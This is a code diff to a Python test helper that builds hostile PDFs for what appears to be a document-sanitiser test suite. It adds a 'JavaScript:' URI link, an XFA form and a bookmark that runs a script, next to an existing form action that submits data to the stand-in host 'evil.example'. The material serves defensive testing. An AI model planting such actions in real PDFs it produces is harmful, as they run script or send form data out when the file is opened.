@@ -156,6 +156,21 @@ def hostile_pdf(*kinds, text="Better Care Fund 2019/20 plan"):
         elif kind == "submit-form":
             submit = action("/SubmitForm", F=TextStringObject("https://evil.example/"))
             annotations.append(annotation("/Widget", A=submit))
+        elif kind == "script-uri":
+            uri = action("/URI", URI=TextStringObject("JavaScript:app.alert(1)"))
+            annotations.append(annotation("/Link", A=uri))
+        elif kind == "xfa":
+            form = DictionaryObject(
+                {
+                    name("/Fields"): ArrayObject(),
+                    name("/XFA"): TextStringObject("<xdp:xdp/>"),
+                }
+            )
+            writer._root_object[name("/AcroForm")] = writer._add_object(form)
+        elif kind == "bookmark-javascript":
+            writer.add_outline_item(title="Open me", page_number=0)
+            item = writer._root_object["/Outlines"]["/First"].get_object()
+            item[name("/A")] = script()
         elif kind == "goto-open":
             writer._root_object[name("/OpenAction")] = ArrayObject(
                 [page.indirect_reference, name("/Fit")]
